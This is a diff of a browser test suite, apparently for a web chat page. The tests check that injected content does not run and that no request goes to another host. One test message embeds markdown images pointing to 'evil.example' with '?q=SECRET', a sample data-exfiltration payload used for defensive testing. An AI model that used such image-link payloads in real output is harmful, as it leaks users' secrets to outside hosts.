@@ -103,7 +103,7 @@ describe.skipIf(!hasBrowser)(`the page${BROWSER_NOTE}`, () => {
       buttons: [{ label: ATTACK, command: "/stop" }],
     });
     web.runs.push(aRun({ label: ATTACK, doing: ATTACK }));
-    web.bus.emit({ type: "run.changed", runId: "x", requesterKey: "k" });
+    web.bus.emit({ type: "run.changed", runId: "x", state: "running" });
     web.bus.emit({ type: "turn.started", sessionKey: "k", address: MAIN, turnId: "t" });
     web.bus.emit({ type: "turn.doing", sessionKey: "k", address: MAIN, runId: null, doing: ATTACK });
     web.bus.emit({ type: "turn.text", sessionKey: "k", address: MAIN, turnId: "t", text: ATTACK });
@@ -118,7 +118,7 @@ describe.skipIf(!hasBrowser)(`the page${BROWSER_NOTE}`, () => {
     expect(await page.evaluate("window.pwned")).toBeUndefined();
   });
 
-  it("[WB2] nothing is asked from another host", async () => {
+  it("[WB2] HTTP-005 nothing is asked from another host", async () => {
     const page = await openPage();
     await web.say("![x](https://evil.example/?q=SECRET) ![y](//evil.example/y.png) https://evil.example");
     await page.locator("#messages .body", { hasText: "x (evil.example)" }).waitFor();
